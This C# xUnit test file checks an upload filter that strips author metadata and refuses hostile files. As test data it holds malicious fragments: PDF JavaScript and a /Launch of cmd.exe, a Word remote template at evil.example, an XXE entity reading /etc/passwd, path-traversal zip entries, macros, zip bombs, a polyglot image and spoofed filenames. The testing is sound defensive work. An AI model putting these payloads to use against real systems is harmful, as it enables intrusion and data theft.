using System.IO.Compression;
using System.Text;
using Partnership.Platform.Files;
using Partnership.Platform.Files.Content;
using Partnership.Testing.Files;
using Xunit;

namespace Partnership.Modules.Tests.Platform.Files;

/// <summary>What a file is, by its content, and what leaves of it.</summary>
public sealed class LookingAtFiles
{
    public static TheoryData<FileKind> Kinds => [.. Enum.GetValues<FileKind>()];

    [Theory, MemberData(nameof(Kinds)), Trait("Rule", "REV-07"), Trait("Rule", "PLT-50")]
    public async Task A_whole_file_is_taken_and_leaves_without_its_maker_and_is_still_whole(FileKind kind)
    {
        var file = SampleFiles.Of(kind);
        Assert.Null(await Wrong(kind, file));
        var left = await Stripped(kind, file);
        Assert.Null(await Wrong(kind, left));
        Assert.DoesNotContain(SampleFiles.Maker, Told(kind, left), StringComparison.Ordinal);
        Assert.DoesNotContain(Convert.ToHexString(Encoding.Latin1.GetBytes(SampleFiles.Maker)), Told(kind, left), StringComparison.Ordinal);
        if (kind == FileKind.Docx) Assert.Contains("What the school noted. ", Told(kind, left), StringComparison.Ordinal);
        if (kind == FileKind.Pdf) Assert.Equal(file.Length, left.Length);
        // Which way is up stays: without it the picture lies on its side.
        if (kind == FileKind.Jpeg) Assert.True(left.AsSpan().IndexOf((ReadOnlySpan<byte>)[0x01, 0x12, 0, 3, 0, 0, 0, 1, 0, 6]) > 0);
    }

    [Theory, MemberData(nameof(Kinds)), Trait("Rule", "REV-07")]
    public async Task A_file_with_its_end_missing_or_something_behind_it_is_refused(FileKind kind)
    {
        var file = SampleFiles.Of(kind);
        Assert.NotNull(await Wrong(kind, file[..^8]));
        Assert.NotNull(await Wrong(kind, [.. file, .. SampleFiles.Docx()]));
        Assert.NotNull(await Wrong(kind, [.. file, .. "<script>alert(1)</script>"u8]));
    }

    [Theory, MemberData(nameof(Kinds)), Trait("Rule", "REV-07")]
    public async Task A_file_of_another_kind_is_refused(FileKind kind)
    {
        foreach (var other in Enum.GetValues<FileKind>().Where(other => other != kind)) Assert.NotNull(await Wrong(kind, SampleFiles.Of(other)));
    }

    [Fact, Trait("Rule", "REV-07")]
    public async Task A_zip_hidden_inside_a_picture_is_refused()
    {
        var png = SampleFiles.Png();
        var end = SampleFiles.Chunk("IEND", []);
        byte[] two = [.. png[..^end.Length], .. SampleFiles.Chunk("prIv", SampleFiles.Docx()), .. end];
        Assert.Contains("two kinds of file", await Wrong(FileKind.Png, two), StringComparison.Ordinal);
    }

    [Theory, Trait("Rule", "REV-07")]
    [InlineData("6 0 obj << /S /JavaScript /JS (app.alert) >> endobj ", "program")]
    [InlineData("6 0 obj << /S /Java#53cript >> endobj ", "program")]
    [InlineData("6 0 obj << /S /Launch /F (cmd.exe) >> endobj ", "program")]
    [InlineData("6 0 obj << /Type /EmbeddedFile >> endobj ", "other files")]
    public async Task A_pdf_with_a_program_or_a_file_in_it_is_refused(string inside, string words) =>
        Assert.Contains(words, await Wrong(FileKind.Pdf, SampleFiles.Pdf(inside)), StringComparison.Ordinal);

    [Fact, Trait("Rule", "PLT-50")]
    public async Task A_pdf_that_is_locked_or_compresses_what_it_tells_is_said_to_keep_it()
    {
        Assert.True((await Look(FileKind.Pdf, SampleFiles.Pdf("6 0 obj << /Encrypt 7 0 R >> endobj "))).Value);
        Assert.True((await Look(FileKind.Pdf, Encoding.Latin1.GetBytes("%PDF-1.5\n1 0 obj << /Info 9 0 R >> endobj\n%%EOF"))).Value);
        Assert.False((await Look(FileKind.Pdf, SampleFiles.Pdf())).Value);
    }

    [Theory, Trait("Rule", "REV-07")]
    [InlineData("word/vbaProject.bin", "x", "macros")]
    [InlineData("word/activeX/activeX1.xml", "<x/>", "macros")]
    [InlineData("word/embeddings/oleObject1.bin", "MZ", "other files")]
    [InlineData("word/media/setup.exe", "MZ", "other files")]
    [InlineData("../../etc/passwd", "x", "damaged")]
    [InlineData("WORD/document.xml", "<x/>", "damaged")]
    [InlineData("word/_rels/settings.xml.rels", """<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" TargetMode="External" Target="https://evil.example/t.dotm"/></Relationships>""", "elsewhere")]
    [InlineData("word/_rels/x.rels", """<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>""", "damaged")]
    [InlineData("[Content_Types].xml", """<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>""", "macros")]
    [InlineData("[Content_Types].xml", "<Types/>", "not a Word document")]
    public async Task A_document_with_something_harmful_in_it_is_refused(string part, string content, string words) =>
        Assert.Contains(words, await Wrong(FileKind.Docx, SampleFiles.Docx((part, content))), StringComparison.Ordinal);

    [Fact, Trait("Rule", "REV-07")]
    public async Task A_zip_bomb_is_refused_before_it_is_opened()
    {
        Assert.Contains("far too large", await Wrong(FileKind.Docx, SampleFiles.Docx(("word/bomb.xml", new string('a', 30 << 20)))), StringComparison.Ordinal);
        Assert.Contains("far too large", await Wrong(FileKind.Docx, SampleFiles.Docx([.. Enumerable.Range(0, 2_001).Select(nth => ($"word/{nth}.xml", "<x/>"))])), StringComparison.Ordinal);
        // It lies about its size: what the directory says is smaller than what comes out.
        var lying = SampleFiles.Docx(("word/lie.xml", new string('a', 500_000)));
        var entry = lying.AsSpan().LastIndexOf("word/lie.xml"u8) - 46 + 24;
        BitConverter.TryWriteBytes(lying.AsSpan(entry), 1_000);
        Assert.NotNull(await Wrong(FileKind.Docx, lying));
    }

    [Fact, Trait("Rule", "REV-07")]
    public async Task Parts_of_a_zip_that_lie_over_each_other_are_refused()
    {
        var file = SampleFiles.Docx();
        var second = file.AsSpan().LastIndexOf("PK\x01\x02"u8);
        BitConverter.TryWriteBytes(file.AsSpan(second + 42), 0);
        Assert.NotNull(await Wrong(FileKind.Docx, file));
    }

    [Theory, Trait("Rule", "REV-07")]
    [InlineData("report.pdf", "report.pdf")]
    [InlineData(@"C:\Users\me\..\report.PDF", "report.pdf")]
    [InlineData("../../etc/report.pdf", "report.pdf")]
    [InlineData("a\"b'c<d>\r\n\t\0.pdf", "abcd.pdf")]
    [InlineData("fdp.\u202Egnp.png", "fdp.gnp.png")]
    [InlineData("\u200B\u2066 .png", "file.png")]
    [InlineData("T.B. notes 3.4.docx", "T.B. notes 3.4.docx")]
    [InlineData("تقرير.pdf", "تقرير.pdf")]
    public void A_name_is_kept_as_far_as_it_can_be_shown(string typed, string kept) => Assert.Equal(kept, FileName.Clean(typed).Value.Text);

    [Theory, Trait("Rule", "REV-07")]
    [InlineData("report.pdf.exe")]
    [InlineData("photo.jpg.html")]
    [InlineData("photo.exe.jpg")]
    [InlineData("report.docm")]
    [InlineData("report")]
    [InlineData("")]
    public void A_name_of_another_kind_or_of_two_is_refused(string typed) => Assert.False(FileName.Clean(typed).Succeeded);

    [Fact, Trait("Rule", "REV-07")]
    public void A_name_too_long_is_shortened_and_keeps_its_ending()
    {
        var name = FileName.Clean(new string('x', 5000) + ".docx").Value.Text;
        Assert.True(name.Length <= 150 && name.EndsWith(".docx", StringComparison.Ordinal));
    }

    private static async Task<Kernel.Acts.Outcome<bool>> Look(FileKind kind, byte[] file) => await FileContent.Look(kind, new MemoryStream(file), CancellationToken.None);
    private static async Task<string?> Wrong(FileKind kind, byte[] file) => (await Look(kind, file)) is { Succeeded: false, Refusals: [var refusal, ..] } ? refusal.Words : null;

    private static async Task<byte[]> Stripped(FileKind kind, byte[] file)
    {
        var to = new MemoryStream();
        await FileContent.Strip(kind, new MemoryStream(file), to, CancellationToken.None);
        return to.ToArray();
    }

    private static string Told(FileKind kind, byte[] file)
    {
        if (kind != FileKind.Docx) return Encoding.Latin1.GetString(file);
        using var zip = new ZipArchive(new MemoryStream(file));
        return string.Concat(zip.Entries.Select(part => new StreamReader(part.Open()).ReadToEnd()));
    }
}
